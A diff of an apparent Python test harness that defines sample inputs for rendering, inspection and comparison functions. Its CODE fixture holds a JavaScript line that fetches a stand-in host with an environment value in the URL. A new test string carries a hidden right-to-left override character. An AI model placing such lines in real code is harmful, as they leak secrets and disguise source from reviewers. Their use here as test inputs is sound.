@@ -408,13 +408,16 @@ FENCES = "".join(
 CODE = "export const a = (c) => fetch(`https://x.example/${c.env.A}`); // \U0001f600\n"
 # As they are called -> (the function, several lists of arguments)
 TASKS = {
-    "*_task(kind, text)": [
+    "*task": [
         *((rendering.source_html, CODE, language) for language in rendering.LANGUAGES),
         (rendering.html_and_prose, f"# A\n\n- [ ] b\n\n|a|\n|-|\n|b|\n\n{FENCES}"),
     ],
     "inspect": [
         (inspection.inspect, {}, {name: CODE})
         for name in ("a.ts", "a.tsx", "a.js", "a.jsx", "a.mjs", "a.sql", "a.json")
+    ],
+    "inspect_text": [
+        (inspection.inspect_text, {}, {"a.ts": CODE, "b.ts": "\U0001f600 \u202e"})
     ],
     "compare_texts": [(comparison.compare_texts, {"a": CODE}, {"a": CODE + "b"})],
     "screenshots.reencode": [
